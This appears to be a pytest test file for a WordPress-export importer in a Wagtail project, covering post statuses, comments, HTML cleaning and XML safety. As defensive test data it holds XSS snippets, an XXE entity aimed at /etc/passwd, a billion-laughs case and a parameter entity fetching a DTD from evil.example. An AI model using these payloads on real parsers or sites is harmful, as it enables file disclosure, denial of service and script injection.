"""WordPress exports (WXR) -> ParsedPosts: posts only, statuses, slugs, tags, old URLs,
comments (approved, pending, threaded; no spam, trash or pings) and safe XML."""

from datetime import UTC, datetime
from pathlib import Path

import pytest

from wagtail_montage.importers.types import ParsedImage, SourceError
from wagtail_montage.importers.wordpress import parse_wxr

FIXTURES = Path(__file__).parent / "fixtures"
WATCH = "https://www.youtube.com/watch?v=UbEhCQqqHJA"


def wxr(*items):
    """A small export holding ``items`` (the XML of each <item>)."""
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<rss version="2.0" xmlns:excerpt="http://wordpress.org/export/1.2/excerpt/"'
        ' xmlns:content="http://purl.org/rss/1.0/modules/content/"'
        ' xmlns:dc="http://purl.org/dc/elements/1.1/"'
        ' xmlns:wp="http://wordpress.org/export/1.2/">'
        "<channel><title>Blog</title><wp:wxr_version>1.2</wp:wxr_version>"
        + "".join(items)
        + "</channel></rss>"
    ).encode()


def item(post_id, title="A post", status="publish", post_type="post", content="Text."):
    return (
        f"<item><title>{title}</title><link>https://blog.example/?p={post_id}</link>"
        f"<guid>https://blog.example/?p={post_id}</guid>"
        f"<content:encoded><![CDATA[{content}]]></content:encoded>"
        f"<wp:post_id>{post_id}</wp:post_id><wp:status>{status}</wp:status>"
        f"<wp:post_type>{post_type}</wp:post_type></item>"
    )


@pytest.fixture(scope="module")
def export():
    skipped = []
    posts, errors = parse_wxr(
        (FIXTURES / "export.xml").read_bytes(), "export.xml", skipped=skipped
    )
    return {post.source: post for post in posts}, errors, skipped


@pytest.fixture(scope="module")
def published(export):
    return export[0]["export.xml#post-42"]


def test_posts_only_pages_and_attachments_are_skipped(export):
    posts, errors, skipped = export
    assert list(posts) == [
        "export.xml#post-42",
        "export.xml#post-43",
        "export.xml#post-44",
    ]
    assert errors == []
    assert skipped == [
        "export.xml#post-45: not a post (type “page”)",
        "export.xml#post-77: not a post (type “attachment”)",
    ]


def test_published_post(published):
    post = published
    assert post.status == "publish"
    assert post.title == "Snow, sweat and synthesizers"
    assert (post.film_title, post.film_year) == ("Rocky IV", None)
    assert post.slug == "snow-sweat-and-synthesizers"
    assert post.key == "https://montage.example/?p=42"  # the guid
    assert (
        post.old_url == "https://montage.example/2021/03/snow-sweat-and-synthesizers/"
    )
    assert post.published_at == datetime(2021, 3, 4, 9, 30, tzinfo=UTC)
    # Categories and tags become tags; the post format does not.
    assert post.tags == ["Training montages", "High Eighties", "Rocky"]
    assert post.teaser == (
        "Rocky trains for Drago twice over, to a synth instrumental and to a rock anthem."
    )


def test_published_post_body_goes_through_the_html_converter(published):
    post = published
    # A URL on its own line is a WordPress auto-embed: the first one is the video.
    assert post.video_url == WATCH
    # [gallery ids="77,78"]: image 77 is among the export's attachments, 78 is not.
    assert [kind for kind, _value in post.body] == [
        "paragraph",
        "heading",
        "paragraph",
        "image",
        "paragraph",
        "image",
        "embed",
    ]
    assert post.body[5][1].src.endswith("/2021/03/rocky-snow.jpg")
    assert "left out image 78 of a [gallery]: not in the export" in post.warnings
    # Blank lines separate paragraphs, a single newline is a line break.
    assert post.body[0][1].startswith("<p>Rocky IV (1985) sends its hero east")
    assert "Soviet Union.<br/>The farmhouse" in post.body[0][1]
    assert post.body[1] == ("heading", {"text": "The music", "level": "h2"})
    # [caption] becomes an image with the caption as its alt text.
    assert post.body[3] == (
        "image",
        ParsedImage(
            src="https://montage.example/wp-content/uploads/2021/03/rocky-snow-1024x576.jpg",
            alt="Rocky running through deep snow.",
        ),
    )
    assert post.body[4][1].startswith("<p><b>Burning Heart</b> by Survivor")
    assert post.body[6] == ("embed", "https://vimeo.com/76979871")


def test_comments_approved_pending_and_threaded(published):
    comments = {comment.source_id: comment for comment in published.comments}
    # Spam (4), trash (5), the pingback (6) and the trackback (7) are left out.
    assert list(comments) == ["1", "2", "3", "8", "9"]
    assert {key: c.status for key, c in comments.items()} == {
        "1": "approved",
        "2": "approved",
        "3": "pending",
        "8": "pending",
        "9": "approved",
    }
    # A reply, a reply to the reply, and a reply to spam that becomes top-level.
    assert {key: c.parent_source_id for key, c in comments.items()} == {
        "1": None,
        "2": "1",
        "3": "2",
        "8": None,
        "9": None,
    }
    assert (
        "comment 9 replied to a comment that is left out: now a comment of its own"
        in published.warnings
    )


def test_comment_fields(published):
    first, second, third = published.comments[:3]
    assert first.author_name == "Sam"
    assert first.email == "sam@reader.example"
    assert first.website == "https://sam.example/"
    assert first.created_at == datetime(2021, 3, 4, 11, 0, tzinfo=UTC)
    # Text, not HTML: paragraphs kept as blank lines.
    assert first.body == (
        "Those taekwondo tournament tapes! Same songs on every one of them.\n\n"
        "I still have two of them in a box."
    )
    assert second.body == "Digitise them before the tape gives up!\n\nPlease."
    assert second.website == ""
    assert third.website == ""  # javascript: is not a website


def test_draft_block_editor_post(export):
    post = export[0]["export.xml#post-43"]
    assert post.status == "draft"
    assert post.slug == ""
    assert post.old_url == ""  # a draft never had a public URL
    assert post.published_at == datetime(2021, 4, 1, 8, 0)  # no GMT date: naive
    assert post.tags == []  # "Uncategorized" is no tag
    assert post.video_url == "https://vimeo.com/76979871"
    assert post.body == [
        (
            "paragraph",
            "<p>While Rocky chops wood, Ivan Drago runs on a treadmill under the eyes "
            "of <i>scientists</i>.</p>",
        ),
        ("paragraph", "<ul><li>Treadmill</li><li>Weights</li></ul>"),
    ]
    assert post.teaser.startswith("While Rocky chops wood")


def test_future_post_is_a_draft(export):
    post = export[0]["export.xml#post-44"]
    assert post.status == "draft"
    assert post.published_at == datetime(2031, 1, 1, 9, 0, tzinfo=UTC)
    assert post.slug == "coming-soon"
    assert post.tags == ["Rocky"]
    assert "the post was future at the source: imported as a draft" in post.warnings


@pytest.mark.parametrize(
    ("status", "expected"),
    [
        ("publish", "publish"),
        ("draft", "draft"),
        ("pending", "draft"),
        ("private", "draft"),
        ("future", "draft"),
        ("something-new", "draft"),
    ],
)
def test_statuses(status, expected):
    posts, errors = parse_wxr(wxr(item(1, status=status)), "s.xml")
    assert [post.status for post in posts] == [expected]
    assert errors == []


@pytest.mark.parametrize("status", ["trash", "auto-draft", "inherit"])
def test_trashed_and_automatic_posts_are_skipped(status):
    skipped = []
    posts, errors = parse_wxr(wxr(item(1, status=status)), "s.xml", skipped=skipped)
    assert posts == [] and errors == []
    assert skipped == [f"s.xml#post-1: a post with the status “{status}”"]


@pytest.mark.parametrize(
    "post_type", ["page", "attachment", "nav_menu_item", "revision"]
)
def test_other_types_are_not_posts(post_type):
    posts, _errors = parse_wxr(wxr(item(1, post_type=post_type)), "t.xml")
    assert posts == []


def test_one_bad_post_does_not_stop_the_others():
    posts, errors = parse_wxr(
        wxr(item(1, title="", content=""), item(2, title="Fine")), "mixed.xml"
    )
    assert [post.title for post in posts] == ["Fine"]
    assert [str(error) for error in errors] == [
        "mixed.xml#post-1: is empty: it has no title and no text"
    ]


def test_untitled_post_is_named_after_its_first_words():
    posts, _errors = parse_wxr(
        wxr(item(1, title="", content="Just a thought.")), "u.xml"
    )
    assert posts[0].title == "Just a thought."
    assert "the post has no title: named after its first words" in posts[0].warnings


def test_post_html_is_cleaned_like_a_page():
    content = (
        "<script>alert(1)</script><p onclick='x()'>Safe <span style='color:red'>text</span>"
        " <a href='javascript:alert(1)'>here</a>.</p>"
    )
    posts, _errors = parse_wxr(wxr(item(1, content=content)), "c.xml")
    assert posts[0].body == [("paragraph", "<p>Safe text here.</p>")]


# -- Unsafe and unreadable files -------------------------------------------------------


def test_external_entity_is_refused():
    with pytest.raises(SourceError) as caught:
        parse_wxr((FIXTURES / "xxe.xml").read_bytes(), "xxe.xml")
    assert caught.value.source == "xxe.xml"
    assert str(caught.value) == (
        "xxe.xml: declares an external entity (file:///etc/passwd): "
        "external entities are not allowed"
    )


def test_billion_laughs_is_refused():
    with pytest.raises(SourceError, match="billion laughs") as caught:
        parse_wxr((FIXTURES / "billion_laughs.xml").read_bytes(), "billion_laughs.xml")
    assert caught.value.source == "billion_laughs.xml"
    assert "declares an XML entity (lol)" in str(caught.value)


def test_parameter_entity_is_refused():
    data = (
        b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY % remote SYSTEM '
        b'"https://evil.example/x.dtd"> %remote;]><rss><channel/></rss>'
    )
    with pytest.raises(SourceError, match="external entit"):
        parse_wxr(data, "param.xml")


def test_a_plain_doctype_is_harmless():
    data = wxr(item(1)).replace(b"<rss", b"<!DOCTYPE rss><rss", 1)
    posts, _errors = parse_wxr(data, "doctype.xml")
    assert len(posts) == 1


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"", "is empty"),
        (b"  \n ", "is empty"),
        (b"<html><body><p>Not XML<br></body></html>", "is not well-formed XML"),
        (b"<?xml version='1.0'?><rss><channel><item/>", "is not well-formed XML"),
        (b"<?xml version='1.0'?><feed/>", "no RSS channel"),
        (
            b"<?xml version='1.0'?><rss><channel><item><title>T</title></item></channel></rss>",
            "not a WordPress export",
        ),
        (b"<?xml version='1.0' encoding='x-klingon'?><rss/>", "XML"),
    ],
)
def test_unreadable_files(data, message):
    with pytest.raises(SourceError, match=message) as caught:
        parse_wxr(data, "bad.xml")
    assert caught.value.source == "bad.xml"


def test_file_over_the_size_limit():
    with pytest.raises(SourceError, match="too large"):
        parse_wxr(wxr(item(1)), "big.xml", max_bytes=100)
